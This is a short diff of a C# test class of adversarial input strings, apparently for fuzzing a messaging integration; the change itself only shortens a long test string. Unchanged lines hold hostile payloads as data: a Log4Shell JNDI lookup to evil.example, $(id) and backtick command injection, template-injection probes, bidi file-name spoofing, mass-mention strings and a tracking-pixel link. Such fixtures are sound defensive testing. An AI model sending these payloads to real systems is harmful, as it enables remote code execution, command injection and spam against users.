@@ -18,7 +18,7 @@ internal static class Payloads
         ["bidi"] = "\u202Etxt.exe\u202C \u2066abc\u2069 \u200Fx\u200Ey \u061Cz \u200B\uFEFF\u00AD\u2060\U000E0041",
         ["nulls"] = "a\0b\u0001c\uFFFEd\uFFFF \uD800 e \uDC00",
         ["zalgo"] = "Z" + new string('\u0301', 1_000) + "a" + new string('\u20DD', 1_000),
-        ["long"] = new string('x', 200_000),
+        ["long"] = new string('x', 50_000),
         ["mentions"] = "@everyone @here <!channel> <!here> <@U123> <@&1> <#C1> &lt;!channel&gt; <!subteam^S1> <at>all</at>",
         ["markdown"] = "*b* _i_ ~s~ `c` ```code``` ||spoiler|| # h\n> quote\n- list ![i](http://evil.example/1px) <u>u</u> \\*x\\*",
         ["templates"] = "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {0} {1} %s %n %x {Source} ${jndi:ldap://evil.example/a} $(id) `id`",
